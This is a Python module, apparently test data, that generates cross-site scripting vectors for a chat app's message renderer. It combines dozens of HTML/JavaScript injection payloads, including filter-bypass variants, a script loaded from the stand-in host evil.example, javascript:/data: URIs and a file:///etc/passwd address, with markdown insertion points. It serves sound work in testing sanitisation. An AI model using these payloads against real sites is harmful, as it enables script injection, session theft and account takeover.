"""Texts that would run a script in a reader's chat, combined with the places where they can be
inserted.
"""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<IMG SRC=javascript:alert(1)>",
    "<img src='x' onerror=&#97;lert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div onclick=alert(1)>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss style=behavior:url(x.htc)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    '"><script>alert(1)</script>',
    "' onmouseover=alert(1) x='",
    '" onmouseover="alert(1)" x="',
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "view-source:javascript:alert(1)",
    "jar:https://evil.example!/x",
    "filesystem:https://evil.example/x",
    "feed:javascript:alert(1)",
    '//evil.example/"onmouseover=alert(1)',
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/<script>alert(1)</script>",
    'mailto:x@a.example"onmouseover="alert(1)',
]
UNREADABLE = [
    *(
        "//",
        "///",
        "//:99999",
        "//%5B",
        "//[",
        "/\\\\:99999",
        "\\\\\\\\:99999",
        "/\t/:99999",
        "///:99999/x",
    ),
    *(
        "https://a.example:99999/",
        "http://",
        "https:///",
        "http://[::1",
        "https://%00/",
        "https://%",
    ),
    *("http://a.example:x/", "xmpp://:99999", "mailto://[", "tel://:99999", "http://a%zz.example/"),
]
"""Addresses, most of which no browser can parse."""
PLACES = [
    "{}",
    "**{}**",
    "> {}",
    "```spoiler {}\nx\n```",
    "| {} |\n|---|\n| {} |",
    "[{}](https://a.example)",
]
ADDRESS_PLACES = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    '[x](https://a.example "{}")',
    "```spoiler [x]({})\n[x]({})\n```",
]
NAMES = [
    "@**{}**",
    "@*{}*",
    "#**{}**",
    "#**Denmark>{}**",
    ":{}:",
    "<time:{}>",
    "```{}\ncode\n```",
    "```quote {}\nx\n```",
]


def vectors() -> list[str]:
    """Return every injection in every place where it can be inserted."""
    texts = [place.replace("{}", script) for script in SCRIPTS for place in PLACES]
    texts += [place.replace("{}", url) for url in ADDRESSES for place in ADDRESS_PLACES]
    texts += [place.replace("{}", script) for script in SCRIPTS[:12] for place in NAMES]
    return texts
